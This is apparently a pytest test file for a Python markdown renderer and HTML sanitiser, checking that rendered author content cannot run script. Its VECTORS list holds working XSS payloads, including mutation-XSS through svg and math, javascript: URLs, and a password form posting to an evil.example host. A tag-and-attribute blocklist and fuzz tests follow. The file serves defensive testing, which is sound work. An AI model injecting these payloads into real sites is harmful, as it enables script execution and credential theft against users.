"""Whatever an author or an import brings, what readers get is harmless, and stays so when it is read again."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from inkhorn.core.prose import as_raw, clean_html, render, sanitise

CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "xss-bleach"

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><p><style><img src=x onerror=alert(1)></style></p></annotation-xml></math>",
    "<math><mi xlink:href='javascript:alert(1)' href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='java\tscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a><a href='data:text/html,<script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<p style='background:url(javascript:alert(1))'>x</p><style>@import 'x'</style>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil>",
    "<form action='https://evil.example'><input name=password type=password><button>Sign in</button></form>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><title><script>alert(1)</script></title>",
    "<a name=body id=body>x</a><img name=getElementById><div id=main class='site-head notice'>x</div>",
    "[x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=) <javascript:alert(1)> [x](vbscript:x)",
    '![x](/a.png "<img src=x onerror=alert(1)>")',
    '```html title="\'><script>alert(1)</script>"\n<script>alert(1)</script>\n```',
    '## <img src=x onerror=alert(1)> {#x"onclick=alert(1)}',
    "Note.[^a]\n\n[^a]: </span></p><script>alert(1)</script><img src=x onerror=alert(1)>",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "$\\text{<img src=x onerror=alert(1)>}$ $\\href{javascript:alert(1)}{x}$",
    "<video poster='javascript:alert(1)' src='javascript:alert(1)' autoplay></video>",
    "<img src=x srcset='javascript:alert(1) 2x'><a href='//evil.example' target=_blank ping='https://evil.example'>x</a>",
    "<div tabindex=99 role=alertdialog aria-hidden=false accesskey=x contenteditable>x</div>",
]

FORBIDDEN = frozenset(
    "script style svg iframe object embed form button select textarea base meta link template noscript title mglyph".split()
)


def assert_harmless(html: str) -> None:
    for node in LexborHTMLParser(f"<main>{html}</main>").css("main *"):
        assert node.tag not in FORBIDDEN
        for name, value in node.attributes.items():
            assert not name.startswith("on"), html
            assert name not in {"style", "srcdoc", "name", "target", "xlink:href", "autoplay", "accesskey", "contenteditable", "ping"}
            if name in {"href", "src", "poster", "cite"}:
                assert re.match(r"(?:https?:|mailto:|tel:|[^:]*$|[/?#])", value or "", re.IGNORECASE), value
            if name == "id":
                assert (value or "").startswith("s-")


@pytest.mark.parametrize("vector", VECTORS)
def test_known_attacks_come_out_harmless(vector: str) -> None:
    for markdown in (vector, as_raw(vector), f"Words {vector} words"):
        html = render(markdown).html
        assert_harmless(html)
        assert sanitise(html) == html


def test_real_attacks_come_out_harmless() -> None:
    if not CORPUS.is_dir():
        pytest.skip("the corpus of attacks is not beside the checkout")
    for file in CORPUS.glob("*.test"):
        attack = file.read_text(encoding="utf-8").split("\n--\n")[0]
        for markdown in (attack, as_raw(attack)):
            html = render(markdown).html
            assert_harmless(html)
            assert sanitise(html) == html


def test_the_theme_cannot_be_imitated() -> None:
    html = render('<div class="site-head" id="main"><p class="notice">x</p></div>').html
    assert "site-head" not in html
    assert "notice" not in html


def test_a_player_can_always_be_stopped() -> None:
    assert render("<audio src=/a.mp3 autoplay></audio>").html.strip() == '<p><audio src="/a.mp3" controls=""></audio></p>'


def test_what_is_taken_away_leaves_nothing_that_reads_differently_again() -> None:
    html = sanitise("<p><select><p>a</p></select><button><p>b</p></button></p>")
    assert sanitise(html) == html


def test_authors_links_carry_no_rel_of_ours() -> None:
    assert "rel=" not in render("[x](https://example.org)").html


def test_a_biography_holds_words_and_links_only() -> None:
    html = clean_html('<p onclick=x>Hi <b>you</b> <img src=x> <a href="https://a.example" class=button>me</a><script>x</script></p>')
    assert html == '<p>Hi <b>you</b>  <a href="https://a.example" rel="noopener nofollow">me</a></p>'


_TAGS = "p div a img svg math mtext mi mglyph style table td select option b i script noscript template span li ul form input title textarea xmp".split()
_PIECES = st.one_of(
    st.sampled_from(_TAGS).map(lambda tag: f"<{tag}>"),
    st.sampled_from(_TAGS).map(lambda tag: f"</{tag}>"),
    st.sampled_from(
        [
            '<a href="',
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "&lt;",
            "&#0;",
            "\x00",
            '"',
            "'",
            "`",
            "\n\n",
            "$",
            "[^1]",
            "<img src=x onerror=y>",
        ]
    ),
    st.text(max_size=5),
)


@settings(deadline=None, max_examples=200)
@given(st.lists(_PIECES, max_size=30).map("".join))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = sanitise(html)
    assert sanitise(once) == once
    assert_harmless(once)


@settings(deadline=None, max_examples=200)
@given(st.lists(_PIECES, max_size=30).map("".join))
def test_any_text_renders_to_something_settled(markdown: str) -> None:
    html = render(markdown).html
    assert sanitise(html) == html
    assert_harmless(html)
